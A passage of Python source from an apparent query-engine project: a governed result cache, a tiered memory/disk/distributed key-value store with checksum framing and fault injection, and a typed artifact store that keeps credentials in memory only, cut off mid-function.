
- the **policy epoch** makes any grant/revoke/mask/filter/view change a
  hard miss in every tier at once — the single invalidation;
- the **data epoch** (bumped by every governed write / MV refresh) keeps
  cached results from surviving table mutations;
- the **identity digest** covers user + effective principals + compute id
  + session temp state, so one principal's rows are unreachable through
  another principal's key.

Non-deterministic plans are excluded *by construction*, not by policy:
:func:`plan_is_cacheable` refuses any plan containing user code (UDFs), a
non-deterministic expression, the process-salted ``hash`` builtin, or an
eFGAC :class:`~repro.engine.logical.RemoteScan` (remote execution state is
not covered by the local fingerprint).

Payloads are the engine's own lossless columnar codec
(:meth:`~repro.engine.batch.ColumnBatch.to_buffers`) plus the pickled
schema, so a cached replay is byte-identical to fresh execution.
"""

from __future__ import annotations

import pickle
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from repro.common.telemetry import Telemetry
from repro.engine.batch import ColumnBatch
from repro.engine.expressions import FunctionCall
from repro.engine.logical import LogicalPlan, RemoteScan
from repro.store.artifacts import ArtifactStore

if TYPE_CHECKING:
    from repro.core.plan_cache import PlanCacheKey

#: Builtins that are deterministic per-process but not across processes —
#: ``hash`` uses Python's salted string hashing, so a persisted result
#: would replay a *different* process's answer.
_PROCESS_SALTED_FUNCTIONS = frozenset({"hash"})


def plan_is_cacheable(plan: LogicalPlan) -> bool:
    """True when a (logical) plan's result is a pure function of its key."""
    for node in plan.walk():
        if isinstance(node, RemoteScan):
            return False
        for expr in node.expressions():
            stack = [expr]
            while stack:
                e = stack.pop()
                if e.is_user_code or not e.deterministic:
                    return False
                if (
                    isinstance(e, FunctionCall)
                    and e.name in _PROCESS_SALTED_FUNCTIONS
                ):
                    return False
                stack.extend(e.children)
    return True


@dataclass
class ResultCacheStats:
    """Hit/miss/eligibility counters for the governed result cache."""

    hits: int = 0
    misses: int = 0
    #: Queries refused by :func:`plan_is_cacheable` (UDFs, hash(), eFGAC).
    ineligible: int = 0
    stored: int = 0
    #: Payloads that failed to decode (corruption already rejected below
    #: this layer; this counts schema/codec mismatches) — treated as misses.
    decode_errors: int = 0
    #: Superseded-epoch entries physically evicted from all tiers.
    stale_evicted: int = 0


class GovernedResultCache:
    """Encode/decode governed results against the artifact store."""

    def __init__(
        self, artifacts: ArtifactStore, telemetry: Telemetry | None = None
    ):
        self._artifacts = artifacts
        self._telemetry = telemetry
        self.stats = ResultCacheStats()

    def _count(self, metric: str) -> None:
        if self._telemetry is not None:
            self._telemetry.counter(f"store.result.{metric}").inc()

    # -- keying ----------------------------------------------------------------

    def key_for(self, cache_key: "PlanCacheKey", data_epoch: int) -> str:
        """Full store key for one (query, identity, governance, data) state."""
        return ArtifactStore.result_key(cache_key, data_epoch)

    def note_ineligible(self) -> None:
        """Count one query excluded by construction."""
        self.stats.ineligible += 1
        self._count("ineligible")

    # -- read / write ----------------------------------------------------------

    def lookup(self, result_key: str) -> ColumnBatch | None:
        """Decode the cached batch under ``result_key``, or None."""
        payload = self._artifacts.get_result(result_key)
        if payload is None:
            self.stats.misses += 1
            self._count("misses")
            return None
        try:
            schema, meta, buf = pickle.loads(payload)
            batch = ColumnBatch.from_buffers(schema, meta, buf, zero_copy=False)
        except Exception:  # noqa: BLE001 - undecodable payload is a miss
            self.stats.decode_errors += 1
            self.stats.misses += 1
            self._count("decode_errors")
            self._artifacts.store.evict(result_key)
            return None
        self.stats.hits += 1
        self._count("hits")
        return batch

    def store(
        self, result_key: str, cache_key: "PlanCacheKey",
        data_epoch: int, batch: ColumnBatch,
    ) -> bool:
        """Encode and persist one freshly computed batch.

        Also sweeps superseded-epoch entries for the same fingerprint out of
        every tier: by-key invalidation already makes them unreachable, this
        reclaims the bytes (and is what 'epoch bump invalidates all tiers
        everywhere' looks like physically).
        """
        try:
            materialized = batch.materialize()
            meta, buf = materialized.to_buffers()
            payload = pickle.dumps(
                (materialized.schema, meta, bytes(buf)),
                protocol=pickle.HIGHEST_PROTOCOL,
            )
        except Exception:  # noqa: BLE001 - unencodable result: skip caching
            self.stats.decode_errors += 1
            self._count("decode_errors")
            return False
        self._artifacts.put_result(result_key, payload)
        self.stats.stored += 1
        self._count("stored")
        current_segment = (
            f"{ArtifactStore.result_prefix(cache_key.fingerprint)}"
            f"e{cache_key.policy_epoch}.d{data_epoch}/"
        )
        self.stats.stale_evicted += self._artifacts.evict_stale_results(
            cache_key.fingerprint, current_segment
        )
        return True

    def stats_snapshot(self) -> dict[str, Any]:
        """Counters + derived hit ratio for ``system.access.store_stats``."""
        probes = self.stats.hits + self.stats.misses
        return {
            "hits": self.stats.hits,
            "misses": self.stats.misses,
            "ineligible": self.stats.ineligible,
            "stored": self.stats.stored,
            "decode_errors": self.stats.decode_errors,
            "stale_evicted": self.stats.stale_evicted,
            "hit_ratio": (self.stats.hits / probes) if probes else 0.0,
        }
