"""The tiered key-value substrate of the governed persistence layer.

A :class:`TieredStore` is a ladder of tiers, fastest first::

    MemoryTier  ->  DiskTier (spill directory)  ->  DistKVTier (simulated
                                                    distributed KV)

Reads walk the ladder top-down and *promote* a hit into every faster tier;
writes go through every tier (unless pinned ``memory_only`` — the
credential rule). Every payload is framed with a sha256 checksum before it
enters any tier and verified on the way out, so a corrupted entry —
whether from the chaos engine's ``store.get`` corrupt faults, a truncated
spill file, or a flaky simulated KV node — is *rejected and deleted*, never
served. A rejected or faulted read degrades to a miss: the caller
recomputes, which is always safe.

Fault points consulted on the shared chaos engine: ``store.get``,
``store.put``, ``store.evict``. A ``raise`` fault is absorbed (miss / skipped
write); a ``corrupt`` fault mangles the framed payload and is then caught by
the checksum on the next read.

:class:`DistKVTier` simulates the shared fleet store: N nodes on a
consistent-hash ring (many virtual nodes per physical node), a replication
factor, and add/remove-node rebalancing that moves only the keys whose
ownership changed. One instance can back several live clusters, which is
how warmed artifacts cross cluster boundaries.
"""

from __future__ import annotations

import hashlib
import os
import threading
from bisect import bisect_right
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Sequence

from repro.common.telemetry import Telemetry

if TYPE_CHECKING:
    from repro.common.faults import FaultInjector

#: Frame header: magic + 32-byte sha256 of the payload.
_FRAME_MAGIC = b"LGS1"
_DIGEST_LEN = 32

#: Disk-file header: magic + 4-byte big-endian key length + key utf-8.
_FILE_MAGIC = b"LGSF"

#: Chaos-engine fault points every store operation consults.
FAULT_POINT_GET = "store.get"
FAULT_POINT_PUT = "store.put"
FAULT_POINT_EVICT = "store.evict"


def frame_payload(payload: bytes) -> bytes:
    """Prefix ``payload`` with magic + its sha256 (the integrity frame)."""
    return _FRAME_MAGIC + hashlib.sha256(payload).digest() + payload


def unframe_payload(raw: bytes) -> bytes | None:
    """Verify and strip the integrity frame; ``None`` if anything is off."""
    if not isinstance(raw, (bytes, bytearray)):
        return None
    head = len(_FRAME_MAGIC) + _DIGEST_LEN
    if len(raw) < head or bytes(raw[: len(_FRAME_MAGIC)]) != _FRAME_MAGIC:
        return None
    digest = bytes(raw[len(_FRAME_MAGIC) : head])
    payload = bytes(raw[head:])
    if hashlib.sha256(payload).digest() != digest:
        return None
    return payload


@dataclass
class TierStats:
    """Per-tier operation counters (framed bytes, not logical payloads)."""

    hits: int = 0
    misses: int = 0
    puts: int = 0
    deletes: int = 0
    evictions: int = 0
    bytes_read: int = 0
    bytes_written: int = 0


class MemoryTier:
    """The fastest tier: a bounded in-process LRU of framed payloads.

    Also the *only* tier credentials may occupy (``memory_only`` writes stop
    here), so secret material never outlives the process or crosses onto a
    spill directory or the shared KV.
    """

    #: Entries here die with the process.
    persistent = False

    def __init__(self, capacity: int = 1024, name: str = "memory"):
        self.name = name
        self.capacity = max(1, capacity)
        self._entries: dict[str, bytes] = {}
        self._order: list[str] = []
        self._lock = threading.Lock()
        self.stats = TierStats()

    def __len__(self) -> int:
        return len(self._entries)

    def get(self, key: str) -> bytes | None:
        """Return the framed payload for ``key`` or None."""
        with self._lock:
            raw = self._entries.get(key)
            if raw is None:
                self.stats.misses += 1
                return None
            # LRU touch (list discipline is fine at tier capacities).
            self._order.remove(key)
            self._order.append(key)
            self.stats.hits += 1
            self.stats.bytes_read += len(raw)
            return raw

    def put(self, key: str, raw: bytes) -> None:
        """Insert/replace ``key``, evicting least-recently-used overflow."""
        with self._lock:
            if key in self._entries:
                self._order.remove(key)
            self._entries[key] = raw
            self._order.append(key)
            self.stats.puts += 1
            self.stats.bytes_written += len(raw)
            while len(self._order) > self.capacity:
                victim = self._order.pop(0)
                self._entries.pop(victim, None)
                self.stats.evictions += 1

    def delete(self, key: str) -> bool:
        """Remove ``key``; True when it existed."""
        with self._lock:
            if key in self._entries:
                del self._entries[key]
                self._order.remove(key)
                self.stats.deletes += 1
                return True
            return False

    def keys(self) -> list[str]:
        """Snapshot of every stored key."""
        with self._lock:
            return list(self._entries)

    def clear(self) -> None:
        """Drop every entry (counters survive)."""
        with self._lock:
            self._entries.clear()
            self._order.clear()

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat counters for ``system.access.store_stats``."""
        with self._lock:
            return {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "puts": self.stats.puts,
                "evictions": self.stats.evictions,
                "bytes_read": self.stats.bytes_read,
                "bytes_written": self.stats.bytes_written,
                "size": len(self._entries),
            }


class DiskTier:
    """Spill-directory tier: one file per key, atomic replace on write.

    File layout is ``LGSF + len(key) + key + framed payload`` — the key is
    stored inside the file so :meth:`keys` (and the security test's spill
    scan) can enumerate the directory without a side index, and a
    hash-collision read can verify it got the right entry. Survives process
    restarts: a fresh cluster pointed at the same directory rehydrates.
    """

    persistent = True

    def __init__(self, directory: str | Path, name: str = "disk"):
        self.name = name
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self._lock = threading.Lock()
        self.stats = TierStats()

    def _path(self, key: str) -> Path:
        digest = hashlib.sha256(key.encode("utf-8")).hexdigest()
        return self.directory / f"{digest}.lgs"

    @staticmethod
    def _parse(blob: bytes) -> tuple[str, bytes] | None:
        """Split one spill file into ``(key, framed payload)``; None if bad."""
        head = len(_FILE_MAGIC) + 4
        if len(blob) < head or blob[: len(_FILE_MAGIC)] != _FILE_MAGIC:
            return None
        key_len = int.from_bytes(blob[len(_FILE_MAGIC) : head], "big")
        if len(blob) < head + key_len:
            return None
        key = blob[head : head + key_len].decode("utf-8", errors="replace")
        return key, blob[head + key_len :]

    def get(self, key: str) -> bytes | None:
        """Read one spill file; miss on absence, wrong key, or bad header."""
        path = self._path(key)
        try:
            blob = path.read_bytes()
        except OSError:
            with self._lock:
                self.stats.misses += 1
            return None
        parsed = self._parse(blob)
        with self._lock:
            if parsed is None or parsed[0] != key:
                self.stats.misses += 1
                return None
            self.stats.hits += 1
            self.stats.bytes_read += len(parsed[1])
        return parsed[1]

    def put(self, key: str, raw: bytes) -> None:
        """Write one spill file atomically (tmp + rename); best effort."""
        path = self._path(key)
        key_bytes = key.encode("utf-8")
        blob = _FILE_MAGIC + len(key_bytes).to_bytes(4, "big") + key_bytes + raw
        tmp = path.with_suffix(f".tmp{os.getpid()}")
        try:
            tmp.write_bytes(blob)
            os.replace(tmp, path)
        except OSError:
            tmp.unlink(missing_ok=True)
            return
        with self._lock:
            self.stats.puts += 1
            self.stats.bytes_written += len(raw)

    def delete(self, key: str) -> bool:
        """Unlink one spill file; True when it existed."""
        try:
            self._path(key).unlink()
        except OSError:
            return False
        with self._lock:
            self.stats.deletes += 1
        return True

    def keys(self) -> list[str]:
        """Enumerate stored keys by reading every spill-file header."""
        found: list[str] = []
        for path in self.directory.glob("*.lgs"):
            try:
                parsed = self._parse(path.read_bytes())
            except OSError:
                continue
            if parsed is not None:
                found.append(parsed[0])
        return found

    def clear(self) -> None:
        """Remove every spill file (the directory itself stays)."""
        for path in self.directory.glob("*.lgs"):
            path.unlink(missing_ok=True)

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat counters for ``system.access.store_stats``."""
        with self._lock:
            return {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "puts": self.stats.puts,
                "bytes_read": self.stats.bytes_read,
                "bytes_written": self.stats.bytes_written,
                "size": sum(1 for _ in self.directory.glob("*.lgs")),
            }


class DistKVTier:
    """A simulated distributed KV: consistent hashing + replication.

    Keys map to the first ``replication`` distinct nodes clockwise from
    their hash on a ring of virtual nodes (``vnodes_per_node`` per physical
    node, so membership changes move ~1/N of the keyspace instead of
    rehashing everything). :meth:`add_node` / :meth:`remove_node` rebalance:
    every key is re-placed under the new ring and only the moved copies are
    counted. One instance is process-wide shared state — several live
    clusters pointing at the same ``DistKVTier`` see each other's artifacts,
    which is the fleet-sharing story.
    """

    persistent = True

    def __init__(
        self,
        num_nodes: int = 4,
        replication: int = 2,
        vnodes_per_node: int = 32,
        name: str = "distkv",
    ):
        if num_nodes < 1:
            raise ValueError("DistKVTier needs at least one node")
        self.name = name
        self.replication = max(1, replication)
        self.vnodes_per_node = max(1, vnodes_per_node)
        self._nodes: dict[str, dict[str, bytes]] = {
            f"node-{i}": {} for i in range(num_nodes)
        }
        self._ring: list[tuple[int, str]] = []
        self._lock = threading.Lock()
        self.stats = TierStats()
        #: Copies relocated by membership-change rebalancing.
        self.rebalance_moves = 0
        #: Reads satisfied by a replica after the primary owner missed.
        self.replica_fallbacks = 0
        self._rebuild_ring()

    # -- ring ------------------------------------------------------------------

    @staticmethod
    def _hash(value: str) -> int:
        return int.from_bytes(
            hashlib.sha256(value.encode("utf-8")).digest()[:8], "big"
        )

    def _rebuild_ring(self) -> None:
        ring = [
            (self._hash(f"{node}#{v}"), node)
            for node in self._nodes
            for v in range(self.vnodes_per_node)
        ]
        ring.sort()
        self._ring = ring

    def _owners(self, key: str) -> list[str]:
        """The ``replication`` distinct nodes owning ``key``, in order."""
        if not self._ring:
            return []
        start = bisect_right(self._ring, (self._hash(key), "￿"))
        owners: list[str] = []
        for i in range(len(self._ring)):
            node = self._ring[(start + i) % len(self._ring)][1]
            if node not in owners:
                owners.append(node)
                if len(owners) >= min(self.replication, len(self._nodes)):
                    break
        return owners

    def owners_of(self, key: str) -> list[str]:
        """Public view of a key's replica set (tests assert placement)."""
        with self._lock:
            return self._owners(key)

    @property
    def node_names(self) -> list[str]:
        """Current membership, sorted."""
        with self._lock:
            return sorted(self._nodes)

    # -- KV --------------------------------------------------------------------

    def get(self, key: str) -> bytes | None:
        """Read from the replica set, falling back past missing copies."""
        with self._lock:
            for i, node in enumerate(self._owners(key)):
                raw = self._nodes[node].get(key)
                if raw is not None:
                    if i > 0:
                        self.replica_fallbacks += 1
                    self.stats.hits += 1
                    self.stats.bytes_read += len(raw)
                    return raw
            self.stats.misses += 1
            return None

    def put(self, key: str, raw: bytes) -> None:
        """Write to every node in the replica set."""
        with self._lock:
            for node in self._owners(key):
                self._nodes[node][key] = raw
            self.stats.puts += 1
            self.stats.bytes_written += len(raw)

    def delete(self, key: str) -> bool:
        """Remove every copy (replicas and any stale pre-rebalance ones)."""
        with self._lock:
            found = False
            for data in self._nodes.values():
                if data.pop(key, None) is not None:
                    found = True
            if found:
                self.stats.deletes += 1
            return found

    def keys(self) -> list[str]:
        """Union of keys across all nodes."""
        with self._lock:
            seen: set[str] = set()
            for data in self._nodes.values():
                seen.update(data)
            return sorted(seen)

    def clear(self) -> None:
        """Drop every copy on every node."""
        with self._lock:
            for data in self._nodes.values():
                data.clear()

    # -- membership ------------------------------------------------------------

    def add_node(self, node_id: str | None = None) -> str:
        """Join a node and rebalance; returns the new node's id."""
        with self._lock:
            if node_id is None:
                i = len(self._nodes)
                while f"node-{i}" in self._nodes:
                    i += 1
                node_id = f"node-{i}"
            if node_id in self._nodes:
                raise ValueError(f"node '{node_id}' already in the ring")
            self._nodes[node_id] = {}
            self._rebuild_ring()
            self._rebalance()
            return node_id

    def remove_node(self, node_id: str) -> None:
        """Drop a node (its data is lost) and rebalance the survivors."""
        with self._lock:
            if node_id not in self._nodes:
                raise ValueError(f"node '{node_id}' is not in the ring")
            if len(self._nodes) == 1:
                raise ValueError("cannot remove the last node")
            del self._nodes[node_id]
            self._rebuild_ring()
            self._rebalance()

    def _rebalance(self) -> None:
        """Re-place every key under the current ring; count moved copies.

        Replication is what makes :meth:`remove_node` lossless: as long as
        one replica survived the membership change, the key is re-replicated
        onto its new owner set here.
        """
        placements: dict[str, bytes] = {}
        for data in self._nodes.values():
            for key, raw in data.items():
                placements.setdefault(key, raw)
        for key, raw in placements.items():
            owners = self._owners(key)
            for node, data in self._nodes.items():
                if node in owners:
                    if key not in data:
                        data[key] = raw
                        self.rebalance_moves += 1
                elif key in data:
                    del data[key]

    def stats_snapshot(self) -> dict[str, Any]:
        """Flat counters for ``system.access.store_stats``."""
        with self._lock:
            return {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "puts": self.stats.puts,
                "bytes_read": self.stats.bytes_read,
                "bytes_written": self.stats.bytes_written,
                "rebalance_moves": self.rebalance_moves,
                "replica_fallbacks": self.replica_fallbacks,
                "nodes": len(self._nodes),
                "size": len(self.keys_unlocked()),
            }

    def keys_unlocked(self) -> list[str]:
        """Key union without re-taking the lock (internal/stats use)."""
        seen: set[str] = set()
        for data in self._nodes.values():
            seen.update(data)
        return sorted(seen)


@dataclass
class StoreStats:
    """Ladder-level counters (on top of each tier's own)."""

    hits: int = 0
    misses: int = 0
    puts: int = 0
    evictions: int = 0
    #: Entries whose checksum failed on read (chaos corruption, torn file).
    corruption_rejected: int = 0
    #: Operations absorbed because a ``store.*`` raise-fault triggered.
    fault_drops: int = 0
    #: Hits served below the memory tier and copied up the ladder.
    promotions: int = 0


class TieredStore:
    """The read-through / write-through ladder over a list of tiers.

    Tier order is fastest-first and ``tiers[0]`` must be the
    :class:`MemoryTier` — ``memory_only`` operations (the credential pin)
    address exactly that tier. All values are checksum-framed on ``put`` and
    verified on ``get``; a frame that fails verification is deleted from the
    tier that served it and the read falls through to the next tier, so a
    corrupt entry can only ever cost a recompute, never wrong bytes.
    """

    def __init__(
        self,
        tiers: Sequence[Any],
        faults: "FaultInjector | None" = None,
        telemetry: Telemetry | None = None,
        name: str = "store",
    ):
        if not tiers:
            raise ValueError("TieredStore needs at least one tier")
        self.tiers = tuple(tiers)
        self.name = name
        self._faults = faults
        self._telemetry = telemetry
        self.stats = StoreStats()
        self._lock = threading.Lock()

    @property
    def has_persistent(self) -> bool:
        """True when any tier outlives the process / is shared."""
        return any(tier.persistent for tier in self.tiers)

    def _count(self, metric: str) -> None:
        if self._telemetry is not None:
            self._telemetry.counter(f"store.{metric}").inc()

    def _fire(self, point: str) -> Any | None:
        """Consult a ``store.*`` fault point; None means 'drop this op'.

        Any raised fault (the chaos engine's raise-kind, or a custom error
        factory) is absorbed here: the store degrades to a miss or a skipped
        write, both of which the caller recomputes through.
        """
        if self._faults is None:
            return _NO_FAULT
        try:
            return self._faults.fire(point)
        except Exception:  # noqa: BLE001 - injected faults degrade to misses
            with self._lock:
                self.stats.fault_drops += 1
            self._count("fault_drops")
            return None

    def get(self, key: str, memory_only: bool = False) -> bytes | None:
        """Walk the ladder for ``key``; verify, promote, and return a hit."""
        decision = self._fire(FAULT_POINT_GET)
        if decision is None:
            return None
        corrupt_pending = decision.triggered and decision.kind == "corrupt"
        ladder = self.tiers[:1] if memory_only else self.tiers
        for i, tier in enumerate(ladder):
            raw = tier.get(key)
            if raw is None:
                continue
            if corrupt_pending:
                raw = decision.apply(raw)
                corrupt_pending = False
            payload = unframe_payload(raw)
            if payload is None:
                # Never serve unverifiable bytes: drop the bad copy and keep
                # walking — a lower tier may still hold a good one.
                tier.delete(key)
                with self._lock:
                    self.stats.corruption_rejected += 1
                self._count("corruption_rejected")
                continue
            for upper in self.tiers[:i]:
                upper.put(key, raw)
            with self._lock:
                self.stats.hits += 1
                if i > 0:
                    self.stats.promotions += 1
            self._count("get.hits")
            return payload
        with self._lock:
            self.stats.misses += 1
        self._count("get.misses")
        return None

    def put(self, key: str, payload: bytes, memory_only: bool = False) -> bool:
        """Frame and write ``payload`` through the ladder; False if dropped."""
        decision = self._fire(FAULT_POINT_PUT)
        if decision is None:
            return False
        raw = decision.apply(frame_payload(payload))
        for tier in self.tiers[:1] if memory_only else self.tiers:
            tier.put(key, raw)
        with self._lock:
            self.stats.puts += 1
        self._count("put.writes")
        return True

    def evict(self, key: str) -> int:
        """Delete ``key`` from every tier; returns copies removed."""
        if self._fire(FAULT_POINT_EVICT) is None:
            return 0
        removed = sum(1 for tier in self.tiers if tier.delete(key))
        if removed:
            with self._lock:
                self.stats.evictions += removed
            self._count("evictions")
        return removed

    def evict_prefix(self, prefix: str) -> int:
        """Delete every key starting with ``prefix`` across all tiers."""
        removed = 0
        for tier in self.tiers:
            for key in tier.keys():
                if key.startswith(prefix) and tier.delete(key):
                    removed += 1
        if removed:
            with self._lock:
                self.stats.evictions += removed
        return removed

    def keys(self) -> list[str]:
        """Union of keys across every tier."""
        seen: set[str] = set()
        for tier in self.tiers:
            seen.update(tier.keys())
        return sorted(seen)

    def clear(self) -> None:
        """Drop every entry in every tier."""
        for tier in self.tiers:
            tier.clear()

    def stats_snapshot(self) -> dict[str, Any]:
        """Ladder counters plus per-tier counters, flattened by tier name."""
        with self._lock:
            out: dict[str, Any] = {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "puts": self.stats.puts,
                "evictions": self.stats.evictions,
                "corruption_rejected": self.stats.corruption_rejected,
                "fault_drops": self.stats.fault_drops,
                "promotions": self.stats.promotions,
                "tiers": len(self.tiers),
                "persistent": float(self.has_persistent),
            }
        for tier in self.tiers:
            for metric, value in tier.stats_snapshot().items():
                out[f"{tier.name}.{metric}"] = value
        return out


class _NoFault:
    """Stand-in decision when no injector is wired (never triggers)."""

    triggered = False
    kind = ""

    @staticmethod
    def apply(payload: Any) -> Any:
        """Pass the payload through unchanged."""
        return payload


_NO_FAULT = _NoFault()
