"""Governed persistence tier: tiered artifact store + policy-epoch caches.

Everything warmed in this repo used to die with the Python process; this
package is where warmed state survives. See :mod:`repro.store.tiers` for
the KV ladder (memory → disk spill → simulated distributed KV),
:mod:`repro.store.artifacts` for the typed facade and key schema, and
:mod:`repro.store.result_cache` for the governed result cache.
"""

from repro.store.artifacts import ArtifactStore, identity_digest
from repro.store.result_cache import GovernedResultCache, plan_is_cacheable
from repro.store.tiers import (
    DiskTier,
    DistKVTier,
    MemoryTier,
    TieredStore,
    frame_payload,
    unframe_payload,
)

__all__ = [
    "ArtifactStore",
    "DiskTier",
    "DistKVTier",
    "GovernedResultCache",
    "MemoryTier",
    "TieredStore",
    "frame_payload",
    "identity_digest",
    "plan_is_cacheable",
    "unframe_payload",
]
