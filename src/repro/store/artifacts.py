"""The typed artifact facade over one cluster's :class:`TieredStore`.

Each artifact class gets its own namespace, key schema and serializer::

    kernel/<expression fingerprint>                      JSON source record
    plan/<relation fingerprint>/e<epoch>/<identity hash> cloudpickled plans
    result/<relation fingerprint>/e<epoch>.d<data>/<id>  encoded ColumnBatch
    cred/<identity hash>                                 pickled, MEMORY ONLY

Keys always embed the catalog **policy epoch** (except kernels, which are
content-addressed by structural fingerprint and therefore can never go
stale): an epoch bump changes every key, so stale governance state is a
hard miss in *every* tier at once — the same single-invalidation spine the
in-memory caches already ride. The identity hash covers user, effective
principal set, compute id and session temp-state version, so one
principal's artifacts are unreachable through another principal's keys.

Credentials are pinned ``memory_only``: secret material never reaches the
disk tier or the shared KV (a security test scans the spill directory to
enforce this).

Serialization failures are counted and swallowed — persistence is strictly
an optimization; anything that will not round-trip simply is not persisted.
"""

from __future__ import annotations

import hashlib
import json
import pickle
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from repro.common.telemetry import Telemetry
from repro.store.tiers import TieredStore

if TYPE_CHECKING:
    from repro.core.plan_cache import PlanCacheKey
    from repro.storage.credentials import TemporaryCredential

NS_KERNEL = "kernel"
NS_PLAN = "plan"
NS_RESULT = "result"
NS_CRED = "cred"


def _digest(*parts: Any) -> str:
    """Stable sha256 over a tuple of key components."""
    joined = "\x1f".join(str(p) for p in parts)
    return hashlib.sha256(joined.encode("utf-8")).hexdigest()


def identity_digest(key: "PlanCacheKey") -> str:
    """Hash of who/where a plan-cache key binds to (everything non-epoch)."""
    return _digest(
        key.fingerprint,
        key.user,
        ",".join(sorted(key.principals)),
        key.compute_id,
        key.temp_state_version,
    )


@dataclass
class ArtifactStoreStats:
    """Per-namespace persistence counters."""

    kernel_hits: int = 0
    kernel_puts: int = 0
    plan_hits: int = 0
    plan_puts: int = 0
    result_hits: int = 0
    result_puts: int = 0
    cred_hits: int = 0
    cred_puts: int = 0
    #: Artifacts that failed to (de)serialize and were skipped.
    codec_errors: int = 0


class ArtifactStore:
    """Typed get/put per artifact class, over one tiered KV ladder."""

    def __init__(
        self,
        store: TieredStore,
        cluster_id: str = "",
        telemetry: Telemetry | None = None,
    ):
        self.store = store
        self.cluster_id = cluster_id
        self._telemetry = telemetry
        self.stats = ArtifactStoreStats()

    @property
    def has_persistent(self) -> bool:
        """True when artifacts outlive this process (disk or shared KV)."""
        return self.store.has_persistent

    def _codec_error(self) -> None:
        self.stats.codec_errors += 1
        if self._telemetry is not None:
            self._telemetry.counter("store.codec_errors").inc()

    # -- kernels ---------------------------------------------------------------

    def get_kernel_payload(self, fingerprint: str) -> dict[str, Any] | None:
        """The persisted source record for one kernel fingerprint, if any.

        Returns the raw JSON record — rehydration (``exec`` of the generated
        source) lives next to the code generator in ``engine/compile.py``.
        """
        raw = self.store.get(f"{NS_KERNEL}/{fingerprint}")
        if raw is None:
            return None
        try:
            payload = json.loads(raw.decode("utf-8"))
        except (ValueError, UnicodeDecodeError):
            self._codec_error()
            return None
        self.stats.kernel_hits += 1
        return payload

    def put_kernel_payload(self, fingerprint: str, payload: dict[str, Any]) -> None:
        """Persist one kernel's source record (best effort)."""
        try:
            raw = json.dumps(payload, sort_keys=True).encode("utf-8")
        except (TypeError, ValueError):
            self._codec_error()
            return
        if self.store.put(f"{NS_KERNEL}/{fingerprint}", raw):
            self.stats.kernel_puts += 1

    # -- secure plans ----------------------------------------------------------

    @staticmethod
    def _plan_key(key: "PlanCacheKey") -> str:
        return (
            f"{NS_PLAN}/{key.fingerprint}/e{key.policy_epoch}/"
            f"{identity_digest(key)}"
        )

    def get_plan(self, key: "PlanCacheKey") -> tuple | None:
        """``(relation, analyzed, optimized)`` for one plan-cache key.

        The caller must verify the returned relation equals the live one
        (the same hash-then-compare rule the in-memory cache applies).
        """
        raw = self.store.get(self._plan_key(key))
        if raw is None:
            return None
        try:
            record = pickle.loads(raw)
        except Exception:  # noqa: BLE001 - any undecodable record is a miss
            self._codec_error()
            return None
        if not isinstance(record, tuple) or len(record) != 3:
            self._codec_error()
            return None
        self.stats.plan_hits += 1
        return record

    def put_plan(
        self, key: "PlanCacheKey", relation: dict[str, Any],
        analyzed: Any, optimized: Any,
    ) -> None:
        """Persist one secure plan (cloudpickle; skipped if it won't dump).

        The *physical* operator tree is deliberately not persisted — it
        binds live runtime objects; a rehydrated plan re-runs physical
        planning (and kernel binding) against this process.
        """
        try:
            import cloudpickle

            raw = cloudpickle.dumps((relation, analyzed, optimized))
        except Exception:  # noqa: BLE001 - unpicklable plans just skip
            self._codec_error()
            return
        if self.store.put(self._plan_key(key), raw):
            self.stats.plan_puts += 1

    # -- credentials (memory-pinned) -------------------------------------------

    @staticmethod
    def _cred_key(cache_key: tuple, policy_epoch: int) -> str:
        return f"{NS_CRED}/{_digest(*cache_key, policy_epoch)}"

    def get_credential(
        self, cache_key: tuple, policy_epoch: int
    ) -> "TemporaryCredential | None":
        """A memory-tier-only credential for one vend key, if cached."""
        raw = self.store.get(
            self._cred_key(cache_key, policy_epoch), memory_only=True
        )
        if raw is None:
            return None
        try:
            credential = pickle.loads(raw)
        except Exception:  # noqa: BLE001 - treat as a miss
            self._codec_error()
            return None
        self.stats.cred_hits += 1
        return credential

    def put_credential(
        self, cache_key: tuple, policy_epoch: int,
        credential: "TemporaryCredential",
    ) -> None:
        """Cache one credential — pinned to the memory tier, never spilled."""
        try:
            raw = pickle.dumps(credential)
        except Exception:  # noqa: BLE001
            self._codec_error()
            return
        if self.store.put(
            self._cred_key(cache_key, policy_epoch), raw, memory_only=True
        ):
            self.stats.cred_puts += 1

    # -- results ---------------------------------------------------------------

    @staticmethod
    def result_prefix(fingerprint: str) -> str:
        """Every result key for one query fingerprint starts with this."""
        return f"{NS_RESULT}/{fingerprint}/"

    @staticmethod
    def result_key(key: "PlanCacheKey", data_epoch: int) -> str:
        """Full result-cache key: fingerprint + both epochs + identity."""
        return (
            f"{NS_RESULT}/{key.fingerprint}/"
            f"e{key.policy_epoch}.d{data_epoch}/{identity_digest(key)}"
        )

    def get_result(self, result_key: str) -> bytes | None:
        """The encoded result payload under one full result key."""
        raw = self.store.get(result_key)
        if raw is not None:
            self.stats.result_hits += 1
        return raw

    def put_result(self, result_key: str, payload: bytes) -> None:
        """Persist one encoded result payload through every tier."""
        if self.store.put(result_key, payload):
            self.stats.result_puts += 1

    def evict_stale_results(self, fingerprint: str, current_segment: str) -> int:
        """Physically remove result entries for superseded epochs.

        Correctness never depends on this (stale epochs are unreachable by
        key construction); it keeps tiers from accumulating dead governed
        bytes and gives 'epoch bump invalidates every tier' a observable
        effect the tests assert on.
        """
        prefix = self.result_prefix(fingerprint)
        removed = 0
        for key in self.store.keys():
            if key.startswith(prefix) and not key.startswith(current_segment):
                removed += self.store.evict(key)
        return removed

    # -- stats -----------------------------------------------------------------

    def stats_snapshot(self) -> dict[str, Any]:
        """Namespace counters + the underlying ladder/tier counters."""
        out: dict[str, Any] = {
            "kernel_hits": self.stats.kernel_hits,
            "kernel_puts": self.stats.kernel_puts,
            "plan_hits": self.stats.plan_hits,
            "plan_puts": self.stats.plan_puts,
            "result_hits": self.stats.result_hits,
